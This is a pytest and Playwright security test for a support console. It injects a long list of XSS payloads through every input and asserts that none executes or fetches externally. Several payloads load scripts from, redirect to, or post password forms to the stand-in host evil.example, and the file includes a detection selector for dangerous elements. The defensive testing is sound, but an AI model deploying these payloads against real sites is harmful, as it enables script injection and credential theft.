"""Whatever customers, models, tools, descriptions and people write: in no place of the console does it run.

All payloads go in at once through every way there is; then each tab is looked at once, whole.
"""

import re
from collections.abc import Iterator
from html import escape
from typing import Any

import httpx
import pytest
import yaml
from langchain_core.messages import AIMessage, BaseMessage
from playwright.sync_api import Page, expect

from smart_support import Settings, create_app
from tests.browser.conftest import Save, Window
from tests.support.console import press
from tests.support.harness import LocalApp, ScriptedModel
from tests.support.import_jobs import loaded
from tests.support.passwords import hash_password
from tests.support.shop_api import ShopApi, description, shop_api

AWAY = "http://evil.example"
PAYLOADS = (
    "<script>xss(1)</script>",
    f"<script src={AWAY}/a.js></script>",
    "<img src=x onerror=xss(2)>",
    f"<img src={AWAY}/a.png>",
    "<svg onload=xss(3)><animate onbegin=xss(4) attributeName=x></svg>",
    "<math><mtext><table><mglyph><style><img src onerror=xss(5)></style></mglyph></table></mtext></math>",
    "<a href='javascript:xss(6)'>html link</a>",
    "[link](javascript:xss(7)) [data](data:text/html,<script>xss(8)</script>)",
    "[tab](java&#9;script:xss(9)) [case](JaVaScRiPt:xss(10)) <javascript:xss(11)>",
    f'![picture]({AWAY}/b.png) ![x](x"onerror="xss(12)) [![in]({AWAY}/c.png)](javascript:xss(13))',
    f"![by name][p]\n\n[p]: {AWAY}/d.png\n\n[l]: javascript:xss(14)\n\n[by name][l]",
    "&lt;img src=x onerror=xss(15)&gt; &#60;script&#62;xss(16)&#60;/script&#62;",
    f"<style>* {{ background: url({AWAY}/e.png) }} body {{ display: none }}</style>",
    f"<link rel=stylesheet href={AWAY}/f.css><base href={AWAY}/>",
    f"<meta http-equiv=refresh content=0;url={AWAY}/g>",
    f"<iframe src={AWAY}/h srcdoc='<script>parent.xss(17)</script>'></iframe><object data={AWAY}/i></object>",
    f"<form action={AWAY}/j><input name=password autofocus onfocus=xss(18)><button>Log in</button></form>",
    f"<video src={AWAY}/k onerror=xss(19)></video><audio src={AWAY}/l></audio>",
    "<details open ontoggle=xss(20)>",
    "{{ 7 * 7 }} {{constructor.constructor('xss(21)')()}} ${xss(22)} #{xss(23)} <%= xss(24) %>",
    "'\"--></title></textarea></style></script></pre><img src=x onerror=xss(25)>",
    "```html\n<img src=x onerror=xss(26)>\n``` `<img src=x onerror=xss(27)>`",
    "~~~\n<script>xss(28)</script>\n~~~",
    "$$\\href{javascript:xss(29)}{x}$$ \\(\\includegraphics{http://evil.example/m.png}\\)",
    '```mermaid\ngraph TD; A[<img src=x onerror=xss(30)>] --> B; click A "javascript:xss(31)"\n```',
    "pay \u202eeven\u202c \u200bless\u2066\ufeff",
    "w" * 400,
)
EVIL = "\n\n".join(PAYLOADS)
SHORT = "<img src=x onerror=xss(40)>'\"><svg onload=xss(41)>"
PASSWORD = "correct horse"
AGENTS = {
    "company": f"Evil {SHORT}",
    "fallback": "desk",
    "agents": [
        {
            "name": "desk",
            "title": f"Desk {SHORT}",
            "description": SHORT,
            "instructions": "Be helpful.",
            "tools": ["escalate_to_human"],
            "examples": [SHORT],
        }
    ],
}


def _script(messages: list[BaseMessage], _: list[dict[str, Any]]) -> AIMessage:
    """Reads a ticket, asks to write one, both with evil words; or hands over with them."""
    last = messages[-1]
    if last.type == "human":
        over = "hand over" in str(last.content)
        name = "escalate_to_human" if over else "get_ticket"
        args: dict[str, Any] = {"reason": EVIL[:1900]} if over else {"ticket_id": 4}
    elif last.type == "tool" and last.name == "get_ticket":
        name, args = "create_ticket", {"subject": EVIL, "priority": 1}
    else:
        return AIMessage(EVIL)
    return AIMessage(EVIL, tool_calls=[{"name": name, "args": args, "id": f"call-{len(messages)}"}])


def _spec(url: str) -> dict[str, Any]:
    """The ticket desk's description with evil words wherever words may stand."""
    spec = description(url)
    spec["info"] = {"title": SHORT, "version": SHORT, "description": EVIL}
    spec["tags"] = [{"name": SHORT, "description": EVIL}]
    spec["servers"].append({"url": url, "description": EVIL})
    spec["components"]["securitySchemes"][SHORT] = {
        "type": "apiKey",
        "in": "header",
        "name": "X-Key",
        "description": EVIL,
    }
    del spec["security"]
    for path in list(spec["paths"].values()):
        for operation in (each for verb, each in path.items() if verb != "parameters"):
            operation |= {"summary": EVIL, "description": EVIL, "tags": [SHORT]}
    parameter = {"in": "query", "name": SHORT, "description": EVIL}
    spec["paths"][f"/{SHORT}"] = {"get": {"operationId": SHORT, "parameters": [parameter]}}
    return spec


@pytest.fixture(scope="module")
def api() -> Iterator[ShopApi]:
    with shop_api() as running:
        running.says = {("GET", "/tickets/4"): [{"subject": EVIL, SHORT: [EVIL]}] * 2}
        yield running


@pytest.fixture(scope="module")
def app(api: ShopApi, tmp_path_factory: pytest.TempPathFactory) -> Iterator[LocalApp]:
    folder = tmp_path_factory.mktemp("xss")
    (folder / "agents.yaml").write_text(yaml.safe_dump(AGENTS))
    entry = {"name": SHORT, "role": "admin", "password_hash": hash_password(PASSWORD)}
    (folder / "users.yaml").write_text(yaml.safe_dump([entry]))
    settings = Settings(
        data_dir=folder / "var",
        agents_file=folder / "agents.yaml",
        users_file=folder / "users.yaml",
        api_keys="op:admin:operator-key",
        allowed_hosts="127.0.0.1",
    )
    with LocalApp(create_app(settings, chat_model=ScriptedModel(script=_script))) as running:
        yield running


@pytest.fixture(scope="module")
def evil_admin(app: LocalApp, api: ShopApi) -> Iterator[httpx.Client]:
    """A person with an evil name, by whom everything evil has been done: one card waits, one is decided."""
    with httpx.Client(base_url=app.url, headers={"Origin": app.url}, timeout=30) as admin:
        entered = admin.post("/login", data={"name": SHORT, "password": PASSWORD})
        assert entered.status_code == 200, entered.text

        def ask(method: str, path: str, body: Any = None, key: str = "") -> Any:
            headers = {"X-API-Key": key} if key else {}
            answer = admin.request(method, f"/api/v1{path}", json=body, headers=headers)
            assert answer.status_code < 300, answer.text
            return answer.json()["data"]

        job = f"/openapi/jobs/{ask('POST', '/openapi/import', {'spec': _spec(api.url)})['job_id']}"
        state = loaded(lambda: ask("GET", job))
        assert state["status"] == "review", state
        keys = [one["key"] for one in ask("GET", f"{job}/operations")]
        ask("PATCH", f"{job}/operations", {"keys": keys, "changes": {"agent": "desk"}})
        ask("POST", f"{job}/approve")
        for thread in ("evil", "evil-decided"):
            asked = ask("POST", "/chat", {"thread_id": thread, "message": EVIL}, "operator-key")
            assert asked["status"] == "awaiting_approval", asked
            ask("POST", f"/approvals/{asked['approval']['approval_id']}/notes", {"text": EVIL[:1900]})
        rejected = {"decision": "reject", "reason": EVIL[:1900]}
        ask("POST", f"/approvals/{asked['approval']['approval_id']}/decision", rejected)
        ask("POST", "/chat", {"thread_id": "evil-over", "message": "hand over"}, "operator-key")
        yield admin


def _looked_at(page: Page) -> None:
    """Nothing ran, nothing came into being that fetches, asks, or leads into a script."""
    assert page.evaluate("window.hits") == []
    assert page.title().endswith("Smart Support")
    bad = """img[src^="http"]:not([src*="127.0.0.1"]), img[src="x"], iframe, object, embed, math,
        base:not([href="./"]),
        [onerror], [onload], [onfocus], [ontoggle], [onbegin], [srcdoc], video, audio,
        meta[http-equiv="refresh"],
        link[href*="evil.example"], script[src*="evil.example"], form[action*="evil.example"],
        a[href^="javascript:" i], a[href^="data:" i], #ss-chat form"""
    found = page.locator(bad).evaluate_all("found => found.map((one) => one.outerHTML.slice(0, 300))")
    assert found == []
    assert "evil.example" not in "".join(page.locator("style").all_text_contents())
    assert page.evaluate("document.documentElement.scrollWidth <= window.innerWidth")
    for text in ("\u202e", "\u2066", "\u200b"):
        assert text not in page.locator("body").inner_text()


def test_nothing_that_was_written_runs_anywhere(
    app: LocalApp, evil_admin: httpx.Client, open_window: Window, save: Save
) -> None:
    asked: list[str] = []
    dialogs: list[str] = []

    def prepare(page: Page) -> None:
        token = evil_admin.cookies["smart_support_login"]
        page.context.add_cookies([{"name": "smart_support_login", "value": token, "url": app.url}])
        page.add_init_script("window.hits = []; window.xss = (number) => window.hits.push(number);")
        page.on("request", lambda request: asked.append(request.url))
        page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))

    page = open_window(app.url, "evil", prepare=prepare)
    card = page.locator(".ss-approval").filter(has_text="create")
    expect(card).to_be_visible()
    while (folded := card.get_by_role("button", name="Show all")).count():
        folded.first.click()
    closed = page.locator(".ss-approval details:not([open]) > summary:visible")
    while closed.count():
        closed.first.click()
    expect(card.locator("details li").filter(has_text="<script>").first).to_be_visible()
    expect(page.locator("#ss-me")).to_contain_text("<img src=x")
    expect(page.locator("#ss-chat")).to_contain_text("<script>xss(1)</script>")
    press(card, "Edit")
    expect(card.locator("textarea").first).to_have_value(re.compile("<script>"))
    _looked_at(page)
    save(page, "xss-console")
    page.goto(f"{app.url}/?thread=evil-decided")
    expect(page.locator("#ss-chat .ss-wait--rejected")).to_be_visible()
    _looked_at(page)
    page.get_by_role("tab", name="Analytics").click()
    expect(page.locator(".ss-metric-link").first).to_be_visible()
    expect(page.locator("#ss-analytics-filters option").filter(has_text="<img").first).to_be_attached()
    page.locator(".ss-sql summary").click()
    page.get_by_label("SQL").fill("SELECT thread_id, payload FROM events WHERE payload LIKE '%xss%'")
    page.locator(".ss-sql .ss-run").click()
    expect(page.locator(".ss-sql td").filter(has_text="<script>").first).to_be_visible()
    _looked_at(page)
    page.get_by_role("tab", name="Replay").click()
    found = page.locator(".ss-conversations button")
    expect(found).to_have_count(3)
    for place, thread_id in enumerate(("evil-over", "evil-decided", "evil")):
        found.nth(place).click()
        expect(page.locator(".ss-thread")).to_contain_text(thread_id)
        expect(page.locator(".ss-step").first).to_be_visible()
        page.locator(".ss-step details").evaluate_all("all => all.forEach((one) => { one.open = true; })")
        if thread_id == "evil-decided":
            page.locator("button.ss-what-if").click()
            expect(page.locator(".ss-diff").first).to_be_visible()
        _looked_at(page)
    page.get_by_role("tab", name="API").click()
    page.locator(".ss-api-jobs button").first.click()
    expect(page.locator(".ss-api-review h2, .ss-api-review h3").first).to_contain_text("<img src=x")
    for name in ("list_tickets", "get_ticket", "create_ticket"):
        page.locator(".ss-api-review").get_by_role("button", name=name).click()
    page.locator(".ss-api-review details").evaluate_all("all => all.forEach((one) => { one.open = true; })")
    _looked_at(page)
    page.goto(f"{app.url}/?thread={SHORT}#replay")
    expect(page.locator("#ss-state")).to_have_attribute("data-state", "live")
    _looked_at(page)
    assert dialogs == []
    assert [url for url in asked if not url.startswith((app.url, "data:", "blob:"))] == []


def test_a_name_that_was_tried_runs_on_no_login_page(app: LocalApp, open_window: Window) -> None:
    answer = httpx.post(f"{app.url}/login", data={"name": EVIL[:190], "password": EVIL[:900]}, timeout=60)
    assert answer.status_code == 401
    assert escape(EVIL[:190]) in answer.text  # the name is kept, as text
    assert answer.text.count("xss(") == escape(EVIL[:190]).count("xss(")
